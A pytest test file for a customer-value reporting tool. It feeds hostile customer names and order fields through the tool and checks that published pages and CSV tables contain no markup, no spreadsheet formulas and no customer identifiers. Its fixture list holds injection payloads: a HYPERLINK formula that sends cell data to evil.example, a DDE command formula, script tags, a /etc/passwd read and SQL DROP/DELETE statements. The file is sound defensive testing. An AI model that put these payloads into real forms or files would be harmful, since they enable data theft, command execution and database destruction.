"""What a stranger types into a shop's checkout reaches no formula, no markup, no SQL; and no page names a customer."""

import csv
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from clvbook.simulate import simulate_shop

ROOT = Path(__file__).parents[1]
RIGHT_TO_LEFT = "\u202egnp.exe\u2066\u200f"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    " =1+2",
    "\uff1d1+1",  # a spreadsheet in Chinese or Japanese may take the full-width sign for its own
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "</title></style><iframe src=javascript:alert(1)>",
    "{{ 7+7 }}{% raw %}",
    "[x](javascript:alert(1))",
    "$\\input{/etc/passwd}$",
    "'; DROP TABLE orders; --",
    '"; DELETE FROM lines; --',
    "Robert'); COPY (SELECT 1) TO '/tmp/x' --",
    "%s%s%n{0}{secret}\\",
    "\u0000".replace("\u0000", "\u0001") + "\x1b[2J",
    RIGHT_TO_LEFT,
    "x" * (1 << 20),
    "NULL or 1=1",
    "张三\u3000李四",
]
SOURCES = [HOSTILE[0], HOSTILE[10], HOSTILE[11], HOSTILE[14], HOSTILE[16], HOSTILE[17], RIGHT_TO_LEFT, "y" * (1 << 20)]


def cli(*words):
    """Run the command as a scheduler does: exit code, stdout, stderr."""
    done = subprocess.run(
        [Path(sys.executable).parent / "clvbook", *map(str, words)],
        capture_output=True,
        text=True,
        env=os.environ | {"CLVBOOK_HOME": str(ROOT)},
        timeout=300,
    )
    return done.returncode, done.stdout, done.stderr


@pytest.fixture(scope="module")
def shops(tmp_path_factory):
    """The same small shop twice, tame and hostile: hostile names, sources, remarks, order numbers, file name, title."""
    folder = tmp_path_factory.mktemp("shops")
    simulate_shop(folder / "data", customers=400, months=8, seed=5, only_orders=True)
    orders = pd.read_csv(folder / "data" / "orders.csv.gz", dtype=str, keep_default_na=False)
    orders["customer_id"] = orders.customer_id.where(orders.customer_id == "", "secret-" + orders.customer_id)
    tame = folder / "tame.csv"
    orders.to_csv(tame, index=False)
    buyers = [buyer for buyer in orders.customer_id.unique() if buyer]
    named = dict(zip(buyers[: len(HOSTILE)], HOSTILE, strict=True))
    places = {name: SOURCES[at % len(SOURCES)] for at, name in enumerate(sorted(orders.source.unique()))}
    numbers = dict(zip(orders.order_id.unique()[: len(HOSTILE)], HOSTILE, strict=True))
    hostile = orders.assign(
        customer_id=orders.customer_id.map(lambda buyer: named.get(buyer, buyer)),
        source=orders.source.map(places),
        province=SOURCES[1],
        coupon_id=SOURCES[0],
        remark=SOURCES[2],
        order_id=orders.order_id.map(lambda number: numbers.get(number, number)),
    )
    wild = folder / "or'ders\"; --<b>*.csv"
    hostile.to_csv(wild, index=False)
    for name, path, title in [("tame", tame, "Tame"), ("hostile", wild, "<script>alert(1)</script>")]:
        given = {"shop": name, "orders": str(path), "title": title, "resamples": 50, "backtest_days": 60}
        text = "\n".join(f"{key}: {json.dumps(value)}" for key, value in given.items())
        (folder / f"{name}.yml").write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def month(shops):
    """The hostile shop's published month."""
    code, out, err = cli("run", shops / "hostile.yml", "--output", shops / "reports")
    assert code == 0, err
    return Path(json.loads(out.splitlines()[-1])["index"]).parent


class Elements(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.handlers, self.addresses = set(), [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.addresses += [value for name, value in attrs if name in ("href", "src", "action") and value]


def test_rows_and_money_are_the_same_as_with_tame_names(shops):
    accounts = []
    for name in ("tame", "hostile"):
        code, out, err = cli("check", shops / f"{name}.yml", "--json")
        assert code == 0, err
        accounts.append(json.loads(out))
    assert accounts[0] == accounts[1]
    assert accounts[0]["customers"] > 300


def test_no_markup_on_any_page(month):
    pages = sorted([*month.glob("*.html"), month.parent / "index.html"])
    assert len(pages) > 3
    for page in pages:
        html = page.read_text(encoding="utf-8")
        found = Elements(html)
        assert not found.tags & {"script", "iframe", "object", "embed", "form", "link"}, page
        assert found.handlers == []
        assert [a for a in found.addresses if re.match(r"(?i)\s*(javascript|http|//|data:text)", a)] == []
        assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\x1b") & set(html), page
        assert len(html) < 2_000_000, page
    # the words themselves may stand there, as words
    assert "&lt;script&gt;" in (month / "customer_value.html").read_text(encoding="utf-8")


def test_no_formula_in_any_table(month):
    tables = sorted(month.glob("tables/*.csv"))
    assert {"customers.csv", "set_aside.csv"} <= {table.name for table in tables}
    csv.field_size_limit(1 << 25)
    cells = []
    for table in tables:
        with table.open(encoding="utf-8-sig", newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]
    number = re.compile(r"-?[0-9.]+(e[+-]?[0-9]+)?")
    runs = [c for c in cells if c.strip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and not number.fullmatch(c)]
    assert [cell for cell in runs if cell.strip()] == []
    assert sum("HYPERLINK" in cell for cell in cells) > 0


def test_tables_for_programs_hold_the_names_as_they_are(month):
    names = set(pd.read_parquet(month / "tables" / "customers.parquet").customer_id)
    assert len(names & set(HOSTILE)) >= len(HOSTILE) - 4  # some of them bought nothing that counts, or come trimmed


def test_no_page_shows_who_a_customer_is(shops, month):
    code, out, err = cli("run", shops / "tame.yml", "--output", shops / "reports")
    assert code == 0, err
    tame = Path(json.loads(out.splitlines()[-1])["index"]).parent
    shown = [*tame.rglob("*.html"), *tame.rglob("*.ipynb"), *tame.glob("*.json"), tame.parent / "index.html"]
    assert len(shown) > 6
    assert [str(path) for path in shown if "secret-" in path.read_text(encoding="utf-8")] == []
    assert "secret-" not in out + err
    assert "secret-" in (tame / "tables" / "customers.csv").read_text(encoding="utf-8")
    for path in [*month.rglob("*.html"), *month.rglob("*.ipynb"), *month.glob("*.json")]:
        text = path.read_text(encoding="utf-8")
        assert "cmd|" not in text, path
        assert "x" * 1000 not in text, path


def test_what_was_read_before_is_published_again_and_a_page_warns_of_unidentified_orders(shops, month):
    code, out, err = cli("run", shops / "hostile.yml", "--output", shops / "again", "--set", "unidentified_limit=0")
    assert code == 0, err
    page = Path(json.loads(out.splitlines()[-1])["index"]).parent / "customer_value.html"
    warning = re.compile(r'<p class="clv-banner">[0-9.]+\s% of orders[^:]* do not name their customer')
    assert warning.search(page.read_text(encoding="utf-8"))
    assert not warning.search((month / "customer_value.html").read_text(encoding="utf-8"))
